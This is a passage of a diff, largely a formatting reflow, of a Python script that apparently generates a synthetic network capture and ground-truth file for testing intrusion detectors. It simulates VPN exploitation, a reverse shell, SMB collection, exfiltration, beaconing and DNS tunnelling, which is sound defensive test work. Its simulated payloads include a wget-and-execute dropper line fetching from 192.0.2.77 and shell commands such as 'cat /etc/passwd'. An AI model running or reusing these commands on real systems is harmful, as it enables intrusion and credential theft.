         for ip in self.vpn_users:
             t0 = self.start + rng.randint(5 * S, 120 * S)
-            self.vpn_tunnel(t0, self.vpn_user_public[ip], ip, self.users[ip], self.end - rng.randint(10, 60) * S)
+            self.vpn_tunnel(
+                t0, self.vpn_user_public[ip], ip, self.users[ip], self.end - rng.randint(10, 60) * S
+            )
         # Administrators: research admin to gitlab and launch-ops hosts, launch-ops admin inside.
         for _ in range(cfg["ssh_sessions"]):
             t = self.start + rng.randint(30 * S, (self.cfg["duration"] - 300) * S)
@@ -572,11 +871,24 @@ class Scenario:
             self.ssh_session(t, LAUNCH_ADMIN, rng.choice(self.launch_hosts))
         for ip in self.launch_hosts:
             for t in self.poisson_times(1.0):
-                self.lookup(t, ip, rng.choice(sorted(n for n in self.internal_names if n.endswith(".launch.corp.example"))))
+                self.lookup(
+                    t,
+                    ip,
+                    rng.choice(sorted(n for n in self.internal_names if n.endswith(".launch.corp.example"))),
+                )
         # Time: everyone syncs with the internal NTP server, which syncs with the internet.
-        clients = self.research_ws + self.business_ws + self.compromised + [FS1[0], FS_RND2[0], FS_BUSINESS[0], DC, INTRANET, GITLAB]
+        clients = (
+            self.research_ws
+            + self.business_ws
+            + self.compromised
+            + [FS1[0], FS_RND2[0], FS_BUSINESS[0], DC, INTRANET, GITLAB]
+        )
         for ip in clients + self.launch_hosts + [VPN_PUBLIC, NTP_INTERNAL]:
-            server = NTP_PUBLIC if ip in (VPN_PUBLIC, NTP_INTERNAL) else (NTP_LAUNCH if self.zone_of(ip) == "launch_ops" else NTP_INTERNAL)
+            server = (
+                NTP_PUBLIC
+                if ip in (VPN_PUBLIC, NTP_INTERNAL)
+                else (NTP_LAUNCH if self.zone_of(ip) == "launch_ops" else NTP_INTERNAL)
+            )
             t = self.start + rng.randint(0, cfg["ntp_interval"] * S)
             c = self.net.host(ip)
             s = self.net.host(server)
@@ -588,7 +900,18 @@ class Scenario:
                 t += cfg["ntp_interval"] * S + rng.randint(-20 * S, 20 * S)
         # Monitoring pings of the servers.
         mon = self.net.host(MONITOR)
-        for i, ip in enumerate([FS1[0], FS_RND2[0], FS_BUSINESS[0], DC, INTRANET, GITLAB, RESOLVER["research"], RESOLVER["business"]]):
+        for i, ip in enumerate(
+            [
+                FS1[0],
+                FS_RND2[0],
+                FS_BUSINESS[0],
+                DC,
+                INTRANET,
+                GITLAB,
+                RESOLVER["research"],
+                RESOLVER["business"],
+            ]
+        ):
             t = self.start + rng.randint(0, cfg["ping_interval"] * S)
             seq = 1
             while t < self.end:
@@ -605,33 +928,70 @@ class Scenario:
         evidence = fn() or {}
         frames = self.net.frames[first:]
         times = [f[0] for f in frames]
-        self.stages.append({
-            "id": key, "name": name, "description": description,
-            "start": iso(min(times)), "end": iso(max(times)), "start_us": min(times), "end_us": max(times),
-            "expected_detector": detector, "also_detected_by": also,
-            "mitre": {"tactic_id": mitre[0], "technique_id": mitre[1]},
-            "entities": entities, "evidence": evidence, "packets": len(frames),
-            "wire_bytes": sum(len(f[2]) for f in frames),
-            "_range": (first, len(self.net.frames)),
-        })
+        self.stages.append(
+            {
+                "id": key,
+                "name": name,
+                "description": description,
+                "start": iso(min(times)),
+                "end": iso(max(times)),
+                "start_us": min(times),
+                "end_us": max(times),
+                "expected_detector": detector,
+                "also_detected_by": also,
+                "mitre": {"tactic_id": mitre[0], "technique_id": mitre[1]},
+                "entities": entities,
+                "evidence": evidence,
+                "packets": len(frames),
+                "wire_bytes": sum(len(f[2]) for f in frames),
+                "_range": (first, len(self.net.frames)),
+            }
+        )
 
     def stage_exploit(self):
         rng = self.rng
         t = self.t_exploit
         for method, path, ua in EXPLOIT_REQUESTS:
             c = self.tcp(t, ATTACKER, VPN_PUBLIC, 80).handshake()
-            req = P.http_request(method, path, VPN_PUBLIC, ua, extra=["Accept-Encoding: gzip, deflate", "Connection: close"])
+            req = P.http_request(
+                method, path, VPN_PUBLIC, ua, extra=["Accept-Encoding: gzip, deflate", "Connection: close"]
+            )
             if "sslvpn_websession" in path:
-                body = b"var fgt_lang = {\n" + b"".join(
-                    b"\x00" * 8 + ("%s\x00%s\x00" % (u, "".join(rng.choice(string.ascii_letters + string.digits) for _ in range(12)))).encode()
-                    for u in ["jdoe", "asmith", "vpnadmin", "mlopez"]) + b"};\n"
-                resp = P.http_response(200, "OK", body, c.t, content_type="application/javascript", server="xxxxxxxx-xxxxx")
+                body = (
+                    b"var fgt_lang = {\n"
+                    + b"".join(
+                        b"\x00" * 8
+                        + (
+                            "%s\x00%s\x00"
+                            % (
+                                u,
+                                "".join(rng.choice(string.ascii_letters + string.digits) for _ in range(12)),
+                            )
+                        ).encode()
+                        for u in ["jdoe", "asmith", "vpnadmin", "mlopez"]
+                    )
+                    + b"};\n"
+                )
+                resp = P.http_response(
+                    200, "OK", body, c.t, content_type="application/javascript", server="xxxxxxxx-xxxxx"
+                )
             elif "system-information" in path:
-                body = json.dumps({"system-information": {"name": "vpn-gw-01", "software-version": "22.3R1", "build": "1647.1",
-                                                          "platform": "ISA-6000", "uptime": "134 days"}}).encode()
+                body = json.dumps(
+                    {
+                        "system-information": {
+                            "name": "vpn-gw-01",
+                            "software-version": "22.3R1",
+                            "build": "1647.1",
+                            "platform": "ISA-6000",
+                            "uptime": "134 days",
+                        }
+                    }
+                ).encode()
                 resp = P.http_response(200, "OK", body, c.t, content_type="application/json", server="")
             elif "keys-status" in path:
-                resp = P.http_response(200, "OK", b'{"status":"ok"}', c.t, content_type="application/json", server="")
+                resp = P.http_response(
+                    200, "OK", b'{"status":"ok"}', c.t, content_type="application/json", server=""
+                )
             else:
                 resp = P.http_response(200, "OK", self.text_body(2500), c.t, server="xxxxxxxx-xxxxx")
             c.exchange(req, resp, server_think=rng.randint(5_000, 80_000))
@@ -643,14 +1003,28 @@ class Scenario:
         rng = self.rng
         t = self.t_appliance
         c = self.tcp(t, VPN_PUBLIC, ATTACKER_INFRA, 80).handshake()
-        script = b"#!/bin/sh\ncd /tmp || cd /var/tmp\nwget -q http://192.0.2.77/bins/x86_64 -O .httpd && chmod +x .httpd && ./.httpd &\n" * 6
-        c.exchange(P.http_request("GET", "/bins/update.sh", ATTACKER_INFRA, "curl/7.29.0"),
-                   P.http_response(200, "OK", script, c.t, content_type="text/x-sh", server="Apache/2.4.41 (Ubuntu)"),
-                   server_think=30_000)
+        script = (
+            b"#!/bin/sh\ncd /tmp || cd /var/tmp\nwget -q http://192.0.2.77/bins/x86_64 -O .httpd && chmod +x .httpd && ./.httpd &\n"
+            * 6
+        )
+        c.exchange(
+            P.http_request("GET", "/bins/update.sh", ATTACKER_INFRA, "curl/7.29.0"),
+            P.http_response(
+                200, "OK", script, c.t, content_type="text/x-sh", server="Apache/2.4.41 (Ubuntu)"
+            ),
+            server_think=30_000,
+        )
         c.close(from_client=False, think=1_000)
         # Reverse shell over TCP/443 without TLS: commands in, output out.
         s = self.tcp(c.t + rng.randint(20, 40) * S, VPN_PUBLIC, ATTACKER_INFRA, 443).handshake()
-        cmds = [b"id\n", b"uname -a\n", b"cat /etc/passwd\n", b"ls -la /data/var/runtime\n", b"ip addr\n", b"cat /proc/net/tcp\n"]
+        cmds = [
+            b"id\n",
+            b"uname -a\n",
+            b"cat /etc/passwd\n",
+            b"ls -la /data/var/runtime\n",
+            b"ip addr\n",
+            b"cat /proc/net/tcp\n",
+        ]
         s.send(True, b"sh-4.2# ", think=50_000, ack_last=True)
         for cmd in cmds:
             s.send(False, cmd, think=rng.randint(3, 25) * S, ack_last=False)
@@ -662,13 +1036,26 @@ class Scenario:
         # The stolen session: the attacker logs in as jdoe and gets a pool address.
         # The tunnel stays up through the scan and the collection; its outer bytes do not mirror
         # the inner traffic (a simplification that keeps the capture small).
-        self.vpn_tunnel(self.t_vpn_login, ATTACKER, VPN_ATTACKER_ADDR, VPN_ATTACKER_USER, self.start + self.cfg["duration"] * S // 2)
+        self.vpn_tunnel(
+            self.t_vpn_login,
+            ATTACKER,
+            VPN_ATTACKER_ADDR,
+            VPN_ATTACKER_USER,
+            self.start + self.cfg["duration"] * S // 2,
+        )
         return {"user": VPN_ATTACKER_USER}
 
     def stage_scan(self):
         rng = self.rng
         cfg = self.cfg
-        known = [ip for ip in self.research_ws + self.business_ws if ip != VIOLATOR] + [FS1[0], FS_RND2[0], FS_BUSINESS[0], GITLAB, DC, INTRANET]
+        known = [ip for ip in self.research_ws + self.business_ws if ip != VIOLATOR] + [
+            FS1[0],
+            FS_RND2[0],
+            FS_BUSINESS[0],
+            GITLAB,
+            DC,
+            INTRANET,
+        ]
         targets = list(known)
         while len(targets) < cfg["scan_hosts"]:
             ip = "10.%d.%d.%d" % (rng.choice([20, 30]), rng.randint(1, 20), rng.randint(1, 254))
@@ -689,7 +1076,9 @@ class Scenario:
                 if not exists:
                     c.syn_unanswered(retries=0)
                 else:
-                    openp = (port in (445, 135) and h.os == "windows" and rng.random() < 0.25) or (port == 22 and h.os == "linux")
+                    openp = (port in (445, 135) and h.os == "windows" and rng.random() < 0.25) or (
+                        port == 22 and h.os == "linux"
+                    )
                     if openp:
                         c.handshake()
                         c.reset(True, think=200)
@@ -736,10 +1125,17 @@ class Scenario:
                     entries = [(s, 0, True) for s in SUBDIRS]
                     dirs_by_worker[w].append((proj, entries))
             for w in range(workers):
-                c, nbytes, tree_path = self.smb_session(t + w * rng.randint(200_000, 900_000), VPN_ATTACKER_ADDR, server,
-                                                        VPN_ATTACKER_USER, VPN_ATTACKER_DOMAIN, files_by_worker[w],
-                                                        workers_delay=(2_000, 40_000), dirs=dirs_by_worker[w],
-                                                        workstation=ATTACKER_WORKSTATION)
+                c, nbytes, tree_path = self.smb_session(
+                    t + w * rng.randint(200_000, 900_000),
+                    VPN_ATTACKER_ADDR,
+                    server,
+                    VPN_ATTACKER_USER,
+                    VPN_ATTACKER_DOMAIN,
+                    files_by_worker[w],
+                    workers_delay=(2_000, 40_000),
+                    dirs=dirs_by_worker[w],
+                    workstation=ATTACKER_WORKSTATION,
+                )
                 total += nbytes
                 end = max(end, c.t)
             shares.append(tree_path)
@@ -759,7 +1155,16 @@ class Scenario:
             k = min(chunk, left)
             reqs.append((k, rng.randint(180, 320)))
             left -= k
-        c = self.tls_session(t, STAGING_HOST, addr, EXFIL_SNI, reqs, profile="curl", tls13=True, idle=rng.randint(200_000, 900_000))
+        c = self.tls_session(
+            t,
+            STAGING_HOST,
+            addr,
+            EXFIL_SNI,
+            reqs,
+            profile="curl",
+            tls13=True,
+            idle=rng.randint(200_000, 900_000),
+        )
         return {"bytes_out": c.bytes_c2s, "bytes_in": c.bytes_s2c, "destination": EXFIL_IP, "sni": EXFIL_SNI}
 
     def stage_beacon(self):
@@ -769,8 +1174,17 @@ class Scenario:
         while t < self.end - 30 * S:
             _, t1 = self.lookup(t, STAGING_HOST, C2_SNI)
             task = self.cfg["beacon_task_bytes"] if rng.random() < 0.06 else 0
-            self.tls_session(t1, STAGING_HOST, C2_IP, C2_SNI, [(rng.randint(236, 252), rng.randint(96, 112) + task)],
-                             profile="implant", tls13=False, cert=C2_CERT, idle=rng.randint(20_000, 80_000))
+            self.tls_session(
+                t1,
+                STAGING_HOST,
+                C2_IP,
+                C2_SNI,
+                [(rng.randint(236, 252), rng.randint(96, 112) + task)],
+                profile="implant",
+                tls13=False,
+                cert=C2_CERT,
+                idle=rng.randint(20_000, 80_000),
+            )
             count += 1
             t += 60 * S + rng.randint(-1_500_000, 1_500_000)
         return {"connections": count, "interval_s": 60, "jitter_s": 1.5, "sni": C2_SNI}
@@ -790,7 +1204,14 @@ class Scenario:
             labels = ["".join(rng.choice(alphabet) for _ in range(rng.randint(48, 60))) for _ in range(2)]
             name = "%s.%s.%s%04x.%s" % (labels[0], labels[1], session, i, TUNNEL_DOMAIN)
             names.append(name)
-            txt = [("".join(rng.choice(string.ascii_letters + string.digits + "+/") for _ in range(rng.randint(60, 200)))).encode()]
+            txt = [
+                (
+                    "".join(
+                        rng.choice(string.ascii_letters + string.digits + "+/")
+                        for _ in range(rng.randint(60, 200))
+                    )
+                ).encode()
+            ]
             qid = rng.getrandbits(16)
             sport = rng.randint(49152, 65535)
             net.udp(t, cli, sport, res, 53, P.dns_query(qid, name, "TXT"))
@@ -819,40 +1240,109 @@ class Scenario:
         self.t_appliance = self.t_exploit + 90 * S + rng.randint(0, 20 * S)
         self.t_vpn_login = self.t_exploit + 200 * S + rng.randint(0, 20 * S)
         self.t_scan = self.t_vpn_login + 60 * S + rng.randint(0, 10 * S)
-        self.stage("a", "vpn_exploit", "Exploit requests from an internet host against the VPN portal (path traversal, "
-                   "Ivanti authentication bypass and command injection)", "signature", ["http"],
-                   ("TA0001", "T1190"), {"ip": [ATTACKER, VPN_PUBLIC], "domain": []}, self.stage_exploit)
-        self.stage("b", "vpn_appliance_outbound", "The VPN appliance itself downloads a script and opens a reverse shell "
-                   "to an internet host", "vpn_appliance", ["zones.allowed_services"], ("TA0011", "T1105"),
-                   {"ip": [VPN_PUBLIC, ATTACKER_INFRA]}, self.stage_appliance)
-        self.stage("a2", "vpn_login_stolen_session", "Context, no network detector expected: the attacker logs in to the "
-                   "VPN as jdoe (TLS to the portal, LDAPS check by the appliance) and receives a pool address", None, ["identity"], ("TA0001", "T1078"), {"ip": [ATTACKER, VPN_PUBLIC, VPN_ATTACKER_ADDR], "user": [VPN_ATTACKER_USER]},
-                   self.stage_vpn_login)
-        self.stage("c", "scan_from_vpn_pool", "Horizontal SYN scan from a VPN-pool address over research and business "
-                   "hosts on admin ports", "scan", ["lateral_movement", "zones.allowed_services"], ("TA0007", "T1046"),
-                   {"ip": [VPN_ATTACKER_ADDR]}, self.stage_scan)
+        self.stage(
+            "a",
+            "vpn_exploit",
+            "Exploit requests from an internet host against the VPN portal (path traversal, "
+            "Ivanti authentication bypass and command injection)",
+            "signature",
+            ["http"],
+            ("TA0001", "T1190"),
+            {"ip": [ATTACKER, VPN_PUBLIC], "domain": []},
+            self.stage_exploit,
+        )
+        self.stage(
+            "b",
+            "vpn_appliance_outbound",
+            "The VPN appliance itself downloads a script and opens a reverse shell " "to an internet host",
+            "vpn_appliance",
+            ["zones.allowed_services"],
+            ("TA0011", "T1105"),
+            {"ip": [VPN_PUBLIC, ATTACKER_INFRA]},
+            self.stage_appliance,
+        )
+        self.stage(
+            "a2",
+            "vpn_login_stolen_session",
+            "Context, no network detector expected: the attacker logs in to the "
+            "VPN as jdoe (TLS to the portal, LDAPS check by the appliance) and receives a pool address",
+            None,
+            ["identity"],
+            ("TA0001", "T1078"),
+            {"ip": [ATTACKER, VPN_PUBLIC, VPN_ATTACKER_ADDR], "user": [VPN_ATTACKER_USER]},
+            self.stage_vpn_login,
+        )
+        self.stage(
+            "c",
+            "scan_from_vpn_pool",
+            "Horizontal SYN scan from a VPN-pool address over research and business " "hosts on admin ports",
+            "scan",
+            ["lateral_movement", "zones.allowed_services"],
+            ("TA0007", "T1046"),
+            {"ip": [VPN_ATTACKER_ADDR]},
+            self.stage_scan,
+        )
         t_scan_end = self.stages[-1]["end_us"]
         self.t_collect = t_scan_end + 120 * S + rng.randint(0, 30 * S)
-        self.stage("d", "smb_mass_collection", "SMB2 sessions from the VPN-pool address as RESEARCH\\jdoe reading "
-                   "many distinct files (evidence.files: 36 tiny, 500 small, 3000 medium, 10000 large) from the research file servers", "mass_file_access",
-                   ["lateral_movement", "zones.allowed_services"], ("TA0009", "T1039"),
-                   {"ip": [VPN_ATTACKER_ADDR, FS1[0], FS_RND2[0]], "user": ["%s\\%s" % (VPN_ATTACKER_DOMAIN, VPN_ATTACKER_USER)],
-                    "share": ["\\\\%s\\%s" % (FS1[1], FS1[2]), "\\\\%s\\%s" % (FS_RND2[1], FS_RND2[2])],
-                    "host": [FS1[1], FS_RND2[1]]}, self.stage_collection)
+        self.stage(
+            "d",
+            "smb_mass_collection",
+            "SMB2 sessions from the VPN-pool address as RESEARCH\\jdoe reading "
+            "many distinct files (evidence.files: 36 tiny, 500 small, 3000 medium, 10000 large) from the research file servers",
+            "mass_file_access",
+            ["lateral_movement", "zones.allowed_services"],
+            ("TA0009", "T1039"),
+            {
+                "ip": [VPN_ATTACKER_ADDR, FS1[0], FS_RND2[0]],
+                "user": ["%s\\%s" % (VPN_ATTACKER_DOMAIN, VPN_ATTACKER_USER)],
+                "share": ["\\\\%s\\%s" % (FS1[1], FS1[2]), "\\\\%s\\%s" % (FS_RND2[1], FS_RND2[2])],
+                "host": [FS1[1], FS_RND2[1]],
+            },
+            self.stage_collection,
+        )
         self.t_exfil = self.stages[-1]["end_us"] + max(120 * S, int(0.05 * D)) + rng.randint(0, 30 * S)
-        self.stage("e", "exfiltration", "Staged archive uploaded over TLS from a research host to a first-seen "
-                   "external address", "exfiltration", [], ("TA0010", "T1041"),
-                   {"ip": [STAGING_HOST, EXFIL_IP], "domain": [EXFIL_SNI]}, self.stage_exfil)
-        self.stage("f", "beaconing", "Implant on a research host calls its C2 over TLS every 60 s +/- 1.5 s for the "
-                   "whole capture", "beaconing", [], ("TA0011", "T1071.001"),
-                   {"ip": [STAGING_HOST, C2_IP], "domain": [C2_SNI]}, self.stage_beacon)
+        self.stage(
+            "e",
+            "exfiltration",
+            "Staged archive uploaded over TLS from a research host to a first-seen " "external address",
+            "exfiltration",
+            [],
+            ("TA0010", "T1041"),
+            {"ip": [STAGING_HOST, EXFIL_IP], "domain": [EXFIL_SNI]},
+            self.stage_exfil,
+        )
+        self.stage(
+            "f",
+            "beaconing",
+            "Implant on a research host calls its C2 over TLS every 60 s +/- 1.5 s for the " "whole capture",
+            "beaconing",
+            [],
+            ("TA0011", "T1071.001"),
+            {"ip": [STAGING_HOST, C2_IP], "domain": [C2_SNI]},
+            self.stage_beacon,
+        )
         self.t_tunnel = self.start + int(0.7 * D) + rng.randint(0, 30 * S)
-        self.stage("g", "dns_tunnel", "TXT queries with long high-entropy labels under one domain", "dns_tunnel", [],
-                   ("TA0011", "T1071.004"), {"ip": [TUNNEL_HOST, RESOLVER["research"]], "domain": [TUNNEL_DOMAIN]},
-                   self.stage_tunnel)
+        self.stage(
+            "g",
+            "dns_tunnel",
+            "TXT queries with long high-entropy labels under one domain",
+            "dns_tunnel",
+            [],
+            ("TA0011", "T1071.004"),
+            {"ip": [TUNNEL_HOST, RESOLVER["research"]], "domain": [TUNNEL_DOMAIN]},
+            self.stage_tunnel,
+        )
         self.t_violation = self.start + int(0.9 * D) + rng.randint(0, 30 * S)
-        self.stage("h", "segmentation_violation", "A business host sends a SYN to a launch-ops host",
-                   "zones.forbidden", [], ("TA0008", "T1021.004"), {"ip": [VIOLATOR, LAUNCH_TARGET]}, self.stage_violation)
+        self.stage(
+            "h",
+            "segmentation_violation",
+            "A business host sends a SYN to a launch-ops host",
+            "zones.forbidden",
+            [],
+            ("TA0008", "T1021.004"),
+            {"ip": [VIOLATOR, LAUNCH_TARGET]},
+            self.stage_violation,
+        )
         # Benign entities: background hosts that neither initiated attack traffic nor are named
         # in a stage. Scan targets stay benign: they only answered.
         initiators = set()
@@ -882,13 +1372,26 @@ class Scenario:
         pcap = os.path.join(out_dir, pcap_name)
         netpkt.write_pcap(pcap, frames)
         truth = {
-            "generator": "komainu tools/scenario/generate.py", "version": GENERATOR_VERSION,
-            "seed": self.seed, "size": self.size, "scale": self.scale, "files": self.cfg["files"],
-            "pcap": pcap_name, "zones": "zones.yaml",
-            "start": iso(self.start), "end": iso(self.end), "start_us": self.start, "end_us": self.end,
-            "first_packet_us": frames[0][0], "last_packet_us": frames[-1][0], "packets": len(frames),
-            "network": {"vpn_appliance": {"public": VPN_PUBLIC, "inside": VPN_INSIDE}, "resolvers": RESOLVER,
-                        "file_servers": {s[1]: s[0] for s in (FS1, FS_RND2, FS_BUSINESS)}},
+            "generator": "komainu tools/scenario/generate.py",
+            "version": GENERATOR_VERSION,
+            "seed": self.seed,
+            "size": self.size,
+            "scale": self.scale,
+            "files": self.cfg["files"],
+            "pcap": pcap_name,
+            "zones": "zones.yaml",
+            "start": iso(self.start),
+            "end": iso(self.end),
+            "start_us": self.start,
+            "end_us": self.end,
+            "first_packet_us": frames[0][0],
+            "last_packet_us": frames[-1][0],
+            "packets": len(frames),
+            "network": {
+                "vpn_appliance": {"public": VPN_PUBLIC, "inside": VPN_INSIDE},
+                "resolvers": RESOLVER,
+                "file_servers": {s[1]: s[0] for s in (FS1, FS_RND2, FS_BUSINESS)},
+            },
             "stages": self.stages,
             "benign": {"ip": self.benign_ips},
             "attack_initiators": {"ip": self.attack_initiators},
@@ -919,9 +1422,11 @@ def initiated(frame):
 
 
 def zones_yaml():
-    lines = ["# komainu zones and segmentation policy (generated by tools/scenario/generate.py).",
-             "# Longest prefix wins; an address in no zone belongs to the implicit zone 'internet'.",
-             "zones:"]
+    lines = [
+        "# komainu zones and segmentation policy (generated by tools/scenario/generate.py).",
+        "# Longest prefix wins; an address in no zone belongs to the implicit zone 'internet'.",
+        "zones:",
+    ]
     for z, cidrs in ZONES.items():
         lines.append("  %s: [%s]" % (z, ", ".join(cidrs)))
     lines.append("policy:")
@@ -929,11 +1434,15 @@ def zones_yaml():
     lines.append("  forbidden:")
     for r in POLICY["forbidden"]:
         lines.append("    - {from: %s, to: %s}" % (r["from"], r["to"]))
-    lines.append("  # A listed pair may use only these services (proto/port); anything else between them is an alert.")
+    lines.append(
+        "  # A listed pair may use only these services (proto/port); anything else between them is an alert."
+    )
     lines.append("  # Pairs not listed here and not forbidden are unrestricted.")
     lines.append("  allowed_services:")
     for r in POLICY["allowed_services"]:
-        lines.append("    - {from: %s, to: %s, services: [%s]}" % (r["from"], r["to"], ", ".join(r["services"])))
+        lines.append(
+            "    - {from: %s, to: %s, services: [%s]}" % (r["from"], r["to"], ", ".join(r["services"]))
+        )
     lines.append("  # These zones must never exchange traffic with the internet, in either direction.")
     lines.append("  no_internet: [%s]" % ", ".join(POLICY["no_internet"]))
     return "\n".join(lines) + "\n"
@@ -968,15 +1477,29 @@ C2_CERT = bytes.fromhex(
 
 
 def main(argv=None):
-    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0], formatter_class=argparse.RawDescriptionHelpFormatter)
+    ap = argparse.ArgumentParser(
+        description=__doc__.split("\n\n")[0], formatter_class=argparse.RawDescriptionHelpFormatter
+    )
     ap.add_argument("--seed", type=int, default=1, help="random seed (default 1)")
-    ap.add_argument("--size", choices=sorted(SIZES, key=lambda s: SIZES[s]["files"]), default="small",
-                    help="tiny | small | medium | large: background volume, duration and files collected")
-    ap.add_argument("--scale", type=float, default=1.0, help="multiplies the number of background hosts (default 1.0)")
+    ap.add_argument(
+        "--size",
+        choices=SIZE_NAMES,
+        default="small",
+        help="tiny | small | medium | large: background volume, duration and files collected",
+    )
+    ap.add_argument(
+        "--scale", type=float, default=1.0, help="multiplies the number of background hosts (default 1.0)"
+    )
     ap.add_argument("--files", type=int, help="files collected in stage (d), overriding the size's count")
-    ap.add_argument("--start", default=DEFAULT_START, help="capture start, UTC, e.g. %s (default)" % DEFAULT_START)
+    ap.add_argument(
+        "--start", default=DEFAULT_START, help="capture start, UTC, e.g. %s (default)" % DEFAULT_START
+    )
     ap.add_argument("--out", required=True, help="output directory (scenario.pcap, truth.json, zones.yaml)")
-    ap.add_argument("--pcap-name", default="scenario.pcap", help="file name of the capture in --out (default scenario.pcap)")
+    ap.add_argument(
+        "--pcap-name",
+        default="scenario.pcap",
+        help="file name of the capture in --out (default scenario.pcap)",
+    )
     args = ap.parse_args(argv)
     if args.scale <= 0:
         ap.error("--scale must be positive")
@@ -991,8 +1514,16 @@ def main(argv=None):
     if os.sep in args.pcap_name or not args.pcap_name:
         ap.error("--pcap-name is a file name, not a path")
     truth = sc.write(args.out, args.pcap_name)
-    print("%s: %d packets, %s .. %s, %d stages" % (os.path.join(args.out, args.pcap_name), truth["packets"],
-                                                   iso(truth["first_packet_us"]), iso(truth["last_packet_us"]), len(truth["stages"])))
+    print(
+        "%s: %d packets, %s .. %s, %d stages"
+        % (
+            os.path.join(args.out, args.pcap_name),
+            truth["packets"],
+            iso(truth["first_packet_us"]),
+            iso(truth["last_packet_us"]),
+            len(truth["stages"]),
+        )
+    )
     return 0
 
 
